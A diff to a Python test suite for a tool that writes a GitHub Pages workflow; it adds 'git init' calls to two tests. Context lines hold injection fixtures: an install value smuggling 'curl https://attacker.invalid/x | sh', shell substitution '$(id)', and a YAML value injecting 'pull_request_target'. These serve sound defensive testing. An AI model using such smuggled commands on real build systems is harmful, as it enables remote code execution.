@@ -208,6 +208,7 @@ def test_init_pages_values_reach_the_workflow_only_through_env(tmp_path):
     install = 'ikreport"; curl https://attacker.invalid/x | sh; echo "'
     archive = "evidence $(id) `id` #"
     main = "main], pull_request_target: {branches: [x"
+    git("init", "-q", cwd=tmp_path)
     result = run("init-pages", "--repo", tmp_path, "--archive", archive, "--install", install, "--main", main)
     assert result.exit_code == 0, result.output
     text = (tmp_path / ".github" / "workflows" / "ikreport-pages.yml").read_text("utf-8")
@@ -241,6 +242,7 @@ def test_init_pages_refuses_values_no_quoting_makes_safe(tmp_path, option, value
 
 
 def test_init_pages_grants_pages_rights_to_the_deploy_job_only_and_pins_actions(tmp_path):
+    git("init", "-q", cwd=tmp_path)
     assert run("init-pages", "--repo", tmp_path).exit_code == 0
     text = (tmp_path / ".github" / "workflows" / "ikreport-pages.yml").read_text("utf-8")
     workflow = yaml.safe_load(text)
